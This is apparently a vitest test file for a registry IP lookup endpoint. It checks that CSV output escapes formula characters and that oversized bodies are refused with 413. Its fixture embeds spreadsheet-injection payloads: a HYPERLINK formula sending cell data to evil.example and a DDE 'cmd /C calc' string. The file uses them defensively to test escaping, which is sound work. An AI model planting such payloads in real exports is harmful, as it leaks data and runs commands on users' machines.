// POST /bulk/ip against bad input (issue 13, finding 9): registry text that a spreadsheet
// would run as a formula, and bodies beyond a role's limit — with or without a
// Content-Length, with blank lines, as text, CSV or JSON. Small limits are refused whole
// (413, no rows); the large ones stream and end with an error row.
import { randomBytes } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditLog } from '../../src/access/audit.js';
import { KeyStore } from '../../src/access/keys.js';
import { buildApp } from '../../src/http/app.js';
import { csvCell } from '../../src/bulk/row.js';
import { LookupService } from '../../src/query/service.js';
import { openStateDb } from '../../src/store/state-db.js';
import type { Db } from '../../src/store/db.js';
import { importText, quietLog, tempRegistry, testConfig } from '../helpers/registry.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")';

const REGISTRY = [
  `inetnum:        192.0.2.0 - 192.0.2.127
netname:        ${HYPERLINK}
descr:          @SUM(1+1)*cmd|' /C calc'!A0
country:        ID
admin-c:        AB1-IDNIC
tech-c:         AB1-IDNIC
status:         ASSIGNED PORTABLE
mnt-by:         MAINT-AB
source:         IDNIC
`,
  // A holder name on two lines: in CSV it is one quoted cell, never a second record.
  `inetnum:        192.0.2.128 - 192.0.2.255
netname:        -NEGATIVE
descr:          Toko Kecil
+ baris kedua
country:        ID
admin-c:        AB1-IDNIC
tech-c:         AB1-IDNIC
status:         ASSIGNED PORTABLE
mnt-by:         MAINT-AB
source:         IDNIC
`,
  `role:           Abuse
nic-hdl:        AB1-IDNIC
abuse-mailbox:  abuse@example.net
mnt-by:         MAINT-AB
source:         IDNIC
`,
].join('\n');

interface Row {
  line: number;
  input: string;
  netname: string | null;
  holder: string | null;
  error: string | null;
}

function ndjsonRows(body: string): Row[] {
  return body
    .trimEnd()
    .split('\n')
    .slice(1)
    .map((l) => JSON.parse(l) as Row);
}

describe('POST /bulk/ip against bad input', () => {
  let reg: ReturnType<typeof tempRegistry>;
  let state: Db;
  let keys: KeyStore;
  let app: FastifyInstance;

  beforeAll(async () => {
    reg = tempRegistry();
    await importText(reg.db, reg.dir, REGISTRY, '2026-01-01T00:00:00Z');
    const config = testConfig(reg.path);
    const service = new LookupService(reg.db, config, quietLog);
    state = openStateDb(':memory:');
    keys = new KeyStore(state);
    app = buildApp({ config, service, logger: quietLog, keys, audit: new AuditLog(state, randomBytes(32)) });
    await app.ready();
  });
  afterAll(async () => {
    await app?.close();
    state?.close();
    reg?.cleanup();
  });

  const post = (payload: string | Buffer | Readable, headers: Record<string, string> = {}) =>
    app.inject({ method: 'POST', url: '/bulk/ip', payload, headers: { 'content-type': 'text/plain', ...headers } });
  const lines = (n: number) => Array.from({ length: n }, (_, i) => `192.0.2.${i % 256}`);

  describe('CSV cells a spreadsheet would run', () => {
    it('writes registry text and input beginning with = + - @ tab or CR after a single quote, and only in CSV', async () => {
      const input = ['192.0.2.5', '192.0.2.200', '=1+1', '@x'].join('\n');
      const r = await post(input, { accept: 'text/csv' });
      expect(r.statusCode).toBe(200);
      const records = parseCsv(r.body, { columns: true }) as Record<string, string>[];
      expect(records.map((x) => x.line)).toEqual(['1', '2', '3', '4']);
      expect(records[0]).toMatchObject({ netname: `'${HYPERLINK}`, holder: `'@SUM(1+1)*cmd|' /C calc'!A0` });
      // A holder name on two lines stays one quoted cell (RFC 4180): one record per line.
      expect(records[1]).toMatchObject({ netname: "'-NEGATIVE", holder: 'Toko Kecil\nbaris kedua' });
      expect(records[2]!.input).toBe("'=1+1");
      expect(records[3]!.input).toBe("'@x");
      // No cell of the file begins with a formula character.
      for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // NDJSON carries the values as they are.
      const rows = ndjsonRows((await post(input)).body);
      expect(rows[0]).toMatchObject({ netname: HYPERLINK, holder: `@SUM(1+1)*cmd|' /C calc'!A0` });
      expect(rows[2]!.input).toBe('=1+1');
    });

    it('csvCell: only the first character decides', () => {
      expect(['=1', '+1', '-1', '@a', '\tx', '\rx', 'a=1', ' =1', '198.51.100.0 - 198.51.100.255', '2001:db8::/32', ''].map(csvCell)).toEqual([
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        'a=1',
        ' =1',
        '198.51.100.0 - 198.51.100.255',
        '2001:db8::/32',
        '',
      ]);
    });
  });

  describe('body limits (anonymous: 100 lines)', () => {
    it('answers 100 lines, and refuses 101 whole with 413 and no rows', async () => {
      const ok = await post(lines(100).join('\n'));
      expect(ok.statusCode).toBe(200);
      expect(ndjsonRows(ok.body)).toHaveLength(100);
      const refused = await post(lines(101).join('\n'));
      expect(refused.statusCode).toBe(413);
      expect(refused.headers['content-type']).toMatch(/^application\/rdap\+json/);
      expect(JSON.parse(refused.body)).toMatchObject({ errorCode: 413, description: [expect.stringMatching(/may hold 100 lines.*this one has 101/)] });
    });

    it('counts blank lines, in the middle and at the end', async () => {
      const middle = [...lines(50), '', ...lines(50)].join('\n');
      expect((await post(middle)).statusCode).toBe(413);
      const trailing = `${lines(100).join('\n')}\n\n\n`;
      expect((await post(trailing)).statusCode).toBe(413);
      // A last line ended by LF is one line, not two.
      expect((await post(`${lines(100).join('\n')}\n`)).statusCode).toBe(200);
    });

    it('refuses a body over its bytes as it arrives, also without a Content-Length (chunked)', async () => {
      let sent = 0;
      const endless = new Readable({
        read() {
          // 2 MB of valid lines, 16 KB at a time: far more than 100 lines.
          if (sent >= 2 * 1024 * 1024) return this.push(null);
          const chunk = `${'192.0.2.1\n'.repeat(1600)}`;
          sent += chunk.length;
          this.push(chunk);
        },
      });
      const r = await post(endless);
      expect(r.statusCode).toBe(413);
      expect(JSON.parse(r.body)).toMatchObject({ errorCode: 413, description: [expect.stringMatching(/at most \d+ bytes/)] });
      expect(r.headers.connection).toBe('close');
    });

    it('stops reading a chunked body on a real connection: the 413 comes while the client is still sending', async () => {
      await app.listen({ port: 0, host: '127.0.0.1' });
      const { port } = app.server.address() as AddressInfo;
      const LIMIT = 64 * 1024 * 1024;
      const outcome = await new Promise<{ status: number; body: string; sentWhenAnswered: number }>((resolve, reject) => {
        let sent = 0;
        const req = httpRequest({ host: '127.0.0.1', port, method: 'POST', path: '/bulk/ip', headers: { 'content-type': 'text/plain', 'transfer-encoding': 'chunked' } }, (res) => {
          const sentWhenAnswered = sent;
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (c: string) => (body += c));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body, sentWhenAnswered }));
          res.on('error', reject);
        });
        req.on('error', () => undefined);
        const chunk = Buffer.from('192.0.2.1\n'.repeat(6400));
        // Writes as fast as the server takes them, up to 64 MB; the answer must not wait for that.
        const pump = () => {
          while (sent < LIMIT) {
            sent += chunk.length;
            if (!req.write(chunk)) return void req.once('drain', pump);
          }
          req.end();
        };
        pump();
      });
      expect(outcome.status).toBe(413);
      expect(JSON.parse(outcome.body)).toMatchObject({ errorCode: 413 });
      expect(outcome.sentWhenAnswered).toBeLessThan(LIMIT);
    });

    it('holds CSV to the same lines (the header row aside) and JSON to its items', async () => {
      const csv = (n: number) => ['address', ...lines(n)].join('\n');
      expect((await post(csv(100), { 'content-type': 'text/csv' })).statusCode).toBe(200);
      expect((await post(csv(101), { 'content-type': 'text/csv' })).statusCode).toBe(413);
      const json = (items: unknown[]) => post(JSON.stringify(items), { 'content-type': 'application/json' });
      expect((await json(lines(100))).statusCode).toBe(200);
      expect((await json([...lines(100), ''])).statusCode).toBe(413);
      // A JSON body over the bytes is refused while it is read, in the same words.
      const big = await json(Array.from({ length: 50 }, () => 'x'.repeat(2000)));
      expect(big.statusCode).toBe(413);
      expect(JSON.parse(big.body)).toMatchObject({ errorCode: 413, description: [expect.stringMatching(/^too large: a anonymous request may hold 100 lines/)] });
    });
  });

  it('counts blank lines for a streaming role too: a million blank lines use up an lea request', async () => {
    const { token } = keys.add({ role: 'lea', label: 'siber', now: Date.now() });
    const r = await post(`192.0.2.5\n${'\n'.repeat(999_999)}192.0.2.6\n`, { authorization: `Bearer ${token}` });
    expect(r.statusCode).toBe(200);
    const rows = ndjsonRows(r.body);
    expect(rows.map((x) => [x.line, x.error === null])).toEqual([
      [1, true],
      [1_000_001, false],
    ]);
    expect(rows[1]!.error).toMatch(/limit reached: a lea request may hold 1000000 lines/);
  });
});
